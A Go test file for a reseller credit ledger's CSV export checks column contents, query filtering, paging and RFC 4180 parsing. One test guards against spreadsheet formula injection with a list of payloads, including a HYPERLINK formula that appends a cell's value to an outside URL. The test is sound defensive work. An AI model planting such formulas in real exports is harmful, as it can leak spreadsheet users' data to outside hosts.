package archive_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/resellerkit/credit"
	"github.com/resellerkit/credit/archive"
	"github.com/resellerkit/credit/memstore"
	"github.com/resellerkit/credit/store"
)

// recordsCSV and resellersCSV are tables as text.
func recordsCSV(t *testing.T, l credit.Ledger, q credit.RecordQuery) string {
	t.Helper()
	var out strings.Builder
	require.NoError(t, archive.RecordsCSV(t.Context(), l, q, &out))
	return out.String()
}

func resellersCSV(t *testing.T, l credit.Ledger, q credit.ResellerQuery) string {
	t.Helper()
	var out strings.Builder
	require.NoError(t, archive.ResellersCSV(t.Context(), l, q, &out))
	return out.String()
}

// cells reads RFC 4180 by its grammar: rows end in CRLF, a quoted cell holds any
// byte, another one none of CR, LF, comma and quote.
func cells(t *testing.T, table string) (rows [][]string) {
	t.Helper()
	var row []string
	for rest := table; rest != ""; {
		var cell string
		if quoted, ok := strings.CutPrefix(rest, `"`); ok {
			for {
				part, after, closed := strings.Cut(quoted, `"`)
				require.True(t, closed, "a quote is not closed")
				cell += part
				if quoted, ok = strings.CutPrefix(after, `"`); !ok {
					rest = after
					break
				}
				cell += `"`
			}
		} else {
			end := strings.IndexAny(rest, ",\r\n\"")
			require.GreaterOrEqual(t, end, 0, "a row does not end")
			cell, rest = rest[:end], rest[end:]
		}
		row = append(row, cell)
		switch {
		case strings.HasPrefix(rest, ","):
			rest = rest[1:]
		case strings.HasPrefix(rest, "\r\n"):
			rows, row, rest = append(rows, row), nil, rest[2:]
		default:
			require.Fail(t, "neither a comma nor CRLF follows a cell", "%.20q", rest)
		}
	}
	require.Nil(t, row)
	return rows
}

// column returns the cells of a column, below its header.
func columnOf(t *testing.T, rows [][]string, name string) (column []string) {
	t.Helper()
	for i, header := range rows[0] {
		if header == name {
			for _, row := range rows[1:] {
				column = append(column, row[i])
			}
			return column
		}
	}
	require.Fail(t, "there is no column "+name)
	return nil
}

func TestTablesHoldWhatTheLedgerHolds(t *testing.T) {
	t.Parallel()
	l := filled(t, 70, 2300)
	records, err := l.Records(t.Context(), credit.RecordQuery{Limit: credit.MaxPageSize})
	require.NoError(t, err)
	rows := cells(t, recordsCSV(t, l, credit.RecordQuery{}))
	head, err := l.Head(t.Context())
	require.NoError(t, err)
	require.Len(t, rows, int(head.Sequence)+1)
	strip := func(s string) string { return strings.TrimPrefix(s, "'") }
	for i, r := range records.Items {
		get := func(name string) string { return columnOf(t, rows[:i+2], name)[i] }
		if i%97 != 0 && i > 40 { // every one of the first, and some
			continue
		}
		assert.Equal(t, fmt.Sprint(r.Sequence), get("sequence"))
		assert.Equal(t, r.ID.String(), get("id"))
		assert.Equal(t, string(r.Kind), get("kind"))
		assert.Equal(t, r.Amount.String(), get("amount"))
		assert.Equal(t, r.Pool.Granted.String(), get("pool_granted"))
		assert.Equal(t, r.Pool.Allocated.String(), get("pool_allocated"))
		assert.Equal(t, r.Pool.Remaining().String(), get("pool_remaining"))
		if r.Kind == credit.KindGrant || r.Kind == credit.KindWithdraw {
			assert.Empty(t, get("reseller_id")+get("allocated_before")+get("used_before")+get("available_before")+get("allocated_after")+get("used_after")+get("available_after"))
		} else {
			assert.Equal(t, r.ResellerID.String(), get("reseller_id"))
			assert.Equal(t, r.Before.Allocated.String(), get("allocated_before"))
			assert.Equal(t, r.Before.Used.String(), get("used_before"))
			assert.Equal(t, r.Before.Available().String(), get("available_before"))
			assert.Equal(t, r.After.Allocated.String(), get("allocated_after"))
			assert.Equal(t, r.After.Used.String(), get("used_after"))
			assert.Equal(t, r.After.Available().String(), get("available_after"))
		}
		for name, text := range map[string]string{"external_id": r.ExternalID, "operator": r.Operator, "remark": r.Remark, "key": r.Key,
			"reference": r.Reference, "customer": r.Customer, "changed": strings.Join(r.Changed, " ")} {
			assert.Equal(t, text, strip(get(name)), name)
		}
		assert.Equal(t, r.Fingerprint.String(), get("fingerprint"))
		assert.Equal(t, r.Hash.String(), get("hash"))
		assert.Equal(t, r.Corrects != 0, get("corrects") == fmt.Sprint(r.Corrects))
		assert.Equal(t, len(r.Metadata) > 0, strings.HasPrefix(get("metadata"), "{"))
		for name, want := range map[string]time.Time{"occurred_at": r.OccurredAt, "recorded_at": r.RecordedAt} {
			have, err := time.Parse(time.RFC3339Nano, get(name))
			require.NoError(t, err)
			assert.Equal(t, want, have, name)
			assert.Len(t, get(name), len("2026-03-01T12:00:00.000000Z"))
		}
	}

	all := credit.ResellerQuery{Statuses: []credit.Status{credit.StatusActive, credit.StatusFrozen, credit.StatusClosed}}
	rows = cells(t, resellersCSV(t, l, all))
	want := everyone(t, l)
	require.Len(t, rows, len(want)+1)
	for i, r := range want {
		var have []string
		for _, cell := range rows[i+1] {
			have = append(have, strip(cell))
		}
		assert.Equal(t, []string{r.ID.String(), r.ExternalID, r.Name, r.Email, r.Mobile, r.Remark, fmt.Sprint(r.Customers), string(r.Status),
			r.BoundAt.Format("2006-01-02T15:04:05.000000Z"), r.Allocated.String(), r.Used.String(), r.Available().String(),
			r.Repossessable().String(), r.Overdraft().String()}, have)
	}
	read, err := csv.NewReader(strings.NewReader(recordsCSV(t, l, credit.RecordQuery{}))).ReadAll()
	require.NoError(t, err, "encoding/csv reads it, too")
	assert.Len(t, read, int(head.Sequence)+1)
}

func TestTablesAreOfTheQuery(t *testing.T) {
	t.Parallel()
	l := filled(t, 71, 2300)
	sequences := func(q credit.RecordQuery) []string { return columnOf(t, cells(t, recordsCSV(t, l, q)), "sequence") }
	kinds := []credit.Kind{credit.KindAllocate}
	only := columnOf(t, cells(t, recordsCSV(t, l, credit.RecordQuery{Kinds: kinds})), "kind")
	require.NotEmpty(t, only)
	for _, kind := range only {
		require.Equal(t, "allocate", kind)
	}
	all := sequences(credit.RecordQuery{})
	newest := sequences(credit.RecordQuery{NewestFirst: true, Limit: 1})
	require.Len(t, newest, len(all), "the limit is that of a page")
	require.Equal(t, all[0], newest[len(all)-1])
	first, err := l.Records(t.Context(), credit.RecordQuery{Limit: 10})
	require.NoError(t, err)
	require.Equal(t, all[10:], sequences(credit.RecordQuery{Cursor: first.Next}), "a cursor is where the table begins")
	require.Error(t, archive.RecordsCSV(t.Context(), l, credit.RecordQuery{Kinds: []credit.Kind{"gift"}}, io.Discard))
	require.Error(t, archive.ResellersCSV(t.Context(), l, credit.ResellerQuery{Statuses: []credit.Status{"gone"}}, io.Discard))
}

func TestATableEndsAtTheHeadThatWasRead(t *testing.T) {
	t.Parallel()
	l := filled(t, 72, 1500)
	for _, newest := range []bool{false, true} {
		q := credit.RecordQuery{NewestFirst: newest}
		before := recordsCSV(t, l, q)
		assert.Equal(t, before, recordsCSV(t, withHead(t, beside{l, func() {
			_, err := l.Grant(context.WithoutCancel(t.Context()), credit.Grant{Amount: decimal.NewFromInt(1)})
			assert.NoError(t, err)
		}}), q), "newest first: %v", newest)
	}
}

func TestATableEndsAlthoughTheLogGrowsFasterThanItIsRead(t *testing.T) {
	t.Parallel()
	l := filled(t, 73, 10)
	grants := slices.Repeat([]credit.Command{credit.Grant{Amount: decimal.NewFromInt(1)}}, credit.MaxPageSize)
	reads := 0
	recordsCSV(t, withHead(t, beside{l, func() {
		reads++
		require.Less(t, reads, 10, "pages are read that hold nothing of the table")
		_, err := l.Bulk(t.Context(), grants, credit.BulkOptions{})
		require.NoError(t, err)
	}}), credit.RecordQuery{})
}

func TestTextsAreNoFormulas(t *testing.T) {
	t.Parallel()
	l := openLedger(t, memstore.New(), acme, store.Options{})
	dangerous := []string{`=HYPERLINK("http://example.com?"&A1,"x")`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", " =1", "\u00a0=1", "\ufeff=1",
		"\x01=1", "\tx", "\rx", "\nx", "=", "-", "\u200b+1", "\u0301=1", "\ufe0f=1", "\U000e0100=1", "\u034f=1", "\u115f=1", "\u3164=1", "\uffa0=1", "\u2800=1", " \u2800\u0301\u3164=1", "+49 151 1234567"}
	harmless := []string{"plain", "a=1", "1-1", "ops@example.com", "'=1", "", " ", "{=1}", "日本語", "\u0301a", "\u2800a=1", "\u2801=1", "\"=1\"", "a,b", "a;=1", "a\rb\nc\r\nd", `"`, "#1"}
	for i, text := range append(dangerous, harmless...) {
		_, err := l.Grant(t.Context(), credit.Grant{Amount: decimal.NewFromInt(1), Operator: text, Remark: text, Key: text, Reference: text, OccurredAt: time.Unix(int64(i), 0)})
		require.NoError(t, err)
		_, err = l.AddReseller(t.Context(), credit.NewReseller{ExternalID: fmt.Sprint(text, i), Name: text + "n", Email: text, Mobile: text, ResellerRemark: text, BoundAt: time.Unix(int64(i+1), 0)})
		require.NoError(t, err)
	}
	_, err := l.Withdraw(t.Context(), credit.Withdrawal{Amount: decimal.RequireFromString("1.5")})
	require.NoError(t, err)
	records := cells(t, recordsCSV(t, l, credit.RecordQuery{Kinds: []credit.Kind{credit.KindGrant}}))
	resellers := cells(t, resellersCSV(t, l, credit.ResellerQuery{Order: credit.OrderOldest}))
	for i, text := range append(dangerous, harmless...) {
		want := text
		if i < len(dangerous) {
			want = "'" + text
		}
		for _, name := range []string{"operator", "remark", "key", "reference"} {
			assert.Equal(t, want, columnOf(t, records, name)[i], name)
		}
		for _, name := range []string{"email", "mobile", "remark"} {
			assert.Equal(t, want, columnOf(t, resellers, name)[i], name)
		}
		if i < len(dangerous) || text == "" || text == " " {
			continue
		}
		assert.Equal(t, want+"n", columnOf(t, resellers, "name")[i])
	}
	withdrawn := cells(t, recordsCSV(t, l, credit.RecordQuery{Kinds: []credit.Kind{credit.KindWithdraw}}))
	assert.Equal(t, "-1.5", columnOf(t, withdrawn, "amount")[0], "an amount with a minus sign stays a number")
}
